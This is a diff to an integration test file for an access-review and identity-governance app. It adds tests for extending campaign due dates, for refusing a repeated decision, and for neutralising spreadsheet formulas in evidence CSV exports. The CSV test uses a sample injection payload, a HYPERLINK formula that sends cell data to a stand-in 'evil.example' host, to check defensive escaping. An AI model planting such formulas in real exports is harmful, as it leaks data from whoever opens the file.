@@ -10,7 +10,7 @@
  * "Code Admin" (privileged) unused for 150 days.
  */
 import { randomUUID } from "node:crypto";
-import { and, eq } from "drizzle-orm";
+import { and, desc, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import {
   accessRequestItems, accessRequests, accountEntitlements, accounts, applications, auditEvents, birthrightRules, entitlements, grants, jobs, operations, people, reviewItems,
@@ -174,7 +174,8 @@ for (const driver of testDrivers()) {
       const view = await getReviewerView({ ctx: ctxOf(A.mia()), input: { campaignId } });
       const shown = view.people.flatMap((p) => p.items).find((i) => i.id === item.id)!;
       expect(shown.receipt).toEqual({ operationId: ops[0]!.id, status: "succeeded", finishedAt: now.toISOString() });
-      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "keep" } })).rejects.toBeInstanceOf(ConflictError);
+      // The same decision again is refused (changing it is covered by review-board.int.test.ts).
+      await expect(decideItem({ ctx: ctxOf(A.mia()), input: { itemId: item.id, decision: "revoke" } })).rejects.toBeInstanceOf(ConflictError);
     });
 
     it("bulk-approves the reviewer's no-action items after confirmation, with the count shown", async () => {
@@ -202,6 +203,22 @@ for (const driver of testDrivers()) {
       expect(await itemFor(zed.id, "crm")).toMatchObject({ reviewerId: sam.id, recommendation: "no_action" });
       const evs = await t.db.select().from(auditEvents).where(eq(auditEvents.action, "review.campaign_edited"));
       expect(evs).toHaveLength(3);
+
+      // Extending the due date: later only, a real calendar date, never in the past; audited with from/to.
+      const [before] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, campaignId));
+      const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
+      await expect(editCampaign({ ctx: ctxOf(A.mia()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() + 7 * DAY) }, now })).rejects.toBeInstanceOf(ForbiddenError);
+      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: "2031-02-30" }, now })).rejects.toThrow(/calendar date/);
+      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(now.getTime() - 2 * DAY) }, now })).rejects.toThrow(/passed/);
+      await expect(editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() - DAY) }, now })).rejects.toThrow(/later than the current/);
+      const ext = await editCampaign({ ctx: ctxOf(A.ada()), input: { campaignId, extendTo: day(before!.dueAt!.getTime() + 7 * DAY) }, now });
+      expect(ext.dueAt).toBe(`${day(before!.dueAt!.getTime() + 7 * DAY)}T23:59:59.000Z`);
+      const [after] = await t.db.select().from(reviewCampaigns).where(eq(reviewCampaigns.id, campaignId));
+      expect(after!.dueAt!.toISOString()).toBe(ext.dueAt);
+      const [last] = await t.db.select().from(auditEvents).where(eq(auditEvents.action, "review.campaign_edited")).orderBy(desc(auditEvents.seq)).limit(1);
+      expect(last!.data).toMatchObject({ dueAt: { from: before!.dueAt!.toISOString(), to: ext.dueAt } });
+      // (The next test closes at the original date.)
+      await t.db.update(reviewCampaigns).set({ dueAt: before!.dueAt }).where(eq(reviewCampaigns.id, campaignId));
     });
 
     it("closes at the due date with the default decision (injected clock)", async () => {
@@ -244,12 +261,30 @@ for (const driver of testDrivers()) {
       expect(await verifyAuditChain(t.db)).toMatchObject({ ok: true });
 
       // Ed asks for Code Admin again after the revoke: one false revoke.
-      const [req] = await t.db.insert(accessRequests).values({ requesterId: ed.id, beneficiaryId: ed.id, justification: "Still needed for on-call" }).returning();
+      const [req] = await t.db.insert(accessRequests).values({ requesterId: ed.id, beneficiaryId: ed.id, justification: "Still needed for on-call", createdAt: new Date(now.getTime() + 86_400_000) }).returning();
       await t.db.insert(accessRequestItems).values({ requestId: req!.id, entitlementId: ent.admin! });
       const m = await automationMetrics({ ctx: ctxOf(A.ada()), input: { campaignId } });
       expect(m.byRecommendation.no_action).toMatchObject({ decided: 5, kept: 5, agreement: 1 });
       expect(m.byRecommendation.remove).toMatchObject({ decided: 1, kept: 1, revoked: 0, agreement: 0 });
       expect(m.falseRevokes).toMatchObject({ revoked: 5, reRequestedWithin30Days: 1, rate: 0.2 });
+    });
+
+    it("evidence CSV neutralises spreadsheet formulas in free text (a reviewer's comment)", async () => {
+      const [item] = await itemsOf();
+      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+      const before = item!.comment;
+      await t.db.update(reviewItems).set({ comment: formula }).where(eq(reviewItems.id, item!.id));
+      try {
+        const ev = await exportEvidence({ ctx: ctxOf(A.ada()), input: { campaignId } });
+        expect(ev.csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`);
+        const [header, ...rows] = parseCsvRecords(ev.csv).map((r) => r.fields);
+        const row = rows.find((r) => r[header!.indexOf("item_id")] === item!.id)!;
+        expect(row[header!.indexOf("comment")]).toBe(`'${formula}`);
+        // No cell of the export starts with a formula character.
+        for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      } finally {
+        await t.db.update(reviewItems).set({ comment: before }).where(eq(reviewItems.id, item!.id));
+      }
     });
 
     it("dashboards: progress by reviewer, decisions by recommendation, time to revoke (admins and auditors only)", async () => {
